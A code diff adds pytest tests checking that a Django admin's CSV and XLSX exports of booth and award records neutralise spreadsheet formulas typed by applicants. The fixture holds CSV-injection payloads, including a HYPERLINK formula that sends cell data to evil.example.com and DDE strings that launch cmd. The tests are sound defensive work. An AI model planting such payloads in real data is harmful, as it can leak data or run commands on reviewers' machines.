@@ -236,3 +236,81 @@ def test_approving_and_rejecting_in_the_admin_show_in_the_history(client, modera
     }
     changed = "Мәртебесі, стенд нөмірі, қараған қызметкер және қаралған уақыты өзгертілді."
     assert entries == {str(pending.pk): (moderator, changed), str(other.pk): (moderator, changed)}
+
+
+# What an applicant typed can hold a spreadsheet formula: the exports never run it.
+TYPED_FORMULAS = {
+    "name_kk": '=HYPERLINK("https://evil.example.com/?"&A1,"Ашу")',
+    "name_ru": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "project_title_kk": "+cmd|' /C calc'!A0",
+    "project_title_ru": "-2+3+cmd|' /C calc'!A0",
+    "contact_name": "\t=1+1",
+}
+
+
+@pytest.fixture
+def booth_with_formulas(db):
+    organisation = OrganisationFactory(
+        name_kk=TYPED_FORMULAS["name_kk"], name_ru=TYPED_FORMULAS["name_ru"], bin="123456789012"
+    )
+    return BoothFactory(
+        organisation=organisation,
+        status=Booth.Status.SUBMITTED,
+        project_title_kk=TYPED_FORMULAS["project_title_kk"],
+        project_title_ru=TYPED_FORMULAS["project_title_ru"],
+        contact_name=TYPED_FORMULAS["contact_name"],
+        contact_phone="+77011234567",
+    )
+
+
+def test_a_csv_export_marks_typed_formulas_as_text(client, moderator, booth_with_formulas):
+    client.force_login(moderator)
+
+    response = _export(client, "admin:exhibitors_booth_export", 0)
+
+    [_headers, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert row[4:9] == [
+        "'" + TYPED_FORMULAS["name_kk"],
+        "'" + TYPED_FORMULAS["name_ru"],
+        "123456789012",
+        "'" + TYPED_FORMULAS["project_title_kk"],
+        "'" + TYPED_FORMULAS["project_title_ru"],
+    ]
+    assert row[10] == "'" + TYPED_FORMULAS["contact_name"]
+    # A phone number is a number, not a formula: it stays as typed.
+    assert row[12] == "+77011234567"
+
+
+def test_an_xlsx_export_keeps_typed_formulas_as_plain_text(client, moderator, booth_with_formulas):
+    client.force_login(moderator)
+
+    response = _export(client, "admin:exhibitors_booth_export", 1)
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
+    cells = {cell.column_letter: cell for cell in row}
+    typed = [cells[column] for column in "EFHIK"]
+    assert [cell.value for cell in typed] == [
+        TYPED_FORMULAS[name]
+        for name in ["name_kk", "name_ru", "project_title_kk", "project_title_ru", "contact_name"]
+    ]
+    assert {cell.data_type for cell in typed} == {"s"}
+    assert all(cell.data_type != "f" for cell in row)
+    # tablib's layout survives: bold headings, frozen under the first row.
+    assert sheet["A1"].font.bold is True
+    assert sheet.freeze_panes == "A2"
+
+
+def test_award_exports_make_formulas_inert_too(client, editor, db):
+    from tests.factories import AwardFactory
+
+    AwardFactory(organisation=None, recipient_name_kk="=1+1", recipient_name_ru="@A1")
+    client.force_login(editor)
+
+    csv_export = _export(client, "admin:awards_award_export", 0)
+    xlsx_export = _export(client, "admin:awards_award_export", 1)
+
+    [_headers, row] = list(csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig"))))
+    assert row[1:3] == ["'=1+1", "'@A1"]
+    sheet = load_workbook(io.BytesIO(xlsx_export.content)).active
+    assert [(cell.value, cell.data_type) for cell in sheet[2][1:3]] == [("=1+1", "s"), ("@A1", "s")]
